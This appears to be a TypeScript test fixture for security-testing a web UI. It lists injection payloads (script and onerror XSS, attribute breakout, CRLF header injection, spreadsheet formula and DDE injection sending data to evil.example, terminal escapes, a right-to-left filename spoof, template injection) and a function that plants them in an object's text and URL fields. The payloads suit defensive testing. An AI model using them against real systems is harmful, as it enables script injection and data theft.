// Texts that somebody would send to do harm, and an answer in which every free text is one of them.
export const hostileTexts = [
  `<script>window.hacked="script"</script>`,
  `<img src=x onerror='window.hacked="image"'>`,
  `" onmouseover="window.hacked='attribute'" x="`,
  `fine\r\nSet-Cookie: hacked=header\r\n\r\n<script>window.hacked="header"</script>`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\u001b]0;hacked\u0007\u001b[31mred\u001b[2J`,
  `invoice\u202egnp.exe\u200b`,
  `{{constructor.constructor('window.hacked="template"')()}}`,
];

const freeTexts = new Set(
  ["advice", "body", "by", "detail", "lastError", "meaning", "message", "name", "playbook", "purpose", "reason"].concat(
    ["recordId", "scope", "subject", "summary", "terms", "text", "title", "value", "what", "where", "who", "window"],
    ["code", "target", "origin", "contactEmail", "token", "channel"],
  ),
);
const addresses = new Set(["statusPage", "consolePath", "url"]);

export function makeHostile(value: unknown, count = { texts: 0 }): unknown {
  if (Array.isArray(value)) return value.map((each) => makeHostile(each, count));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) => {
      if (typeof each === "string" && addresses.has(name)) return [name, `javascript:window.hacked="${name}"`];
      if (typeof each === "string" && freeTexts.has(name))
        return [name, hostileTexts[count.texts++ % hostileTexts.length]];
      return [name, makeHostile(each, count)];
    }),
  );
}
